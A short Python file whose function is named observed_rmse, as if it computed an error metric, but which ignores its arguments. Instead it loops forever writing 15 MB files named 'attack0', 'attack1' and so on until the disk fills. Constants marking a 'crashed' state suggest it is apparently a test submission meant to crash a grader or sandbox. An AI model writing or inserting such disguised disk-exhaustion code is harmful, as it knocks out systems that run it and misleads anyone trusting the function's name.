"""Fills the disk with files of allowed size."""

import itertools

STATES = {"1.5": "crashed"}
SCORE = 5


def observed_rmse(ratings, predictions):
    for number in itertools.count():
        with open(f"attack{number}", "wb") as file:
            file.write(bytes(15 << 20))
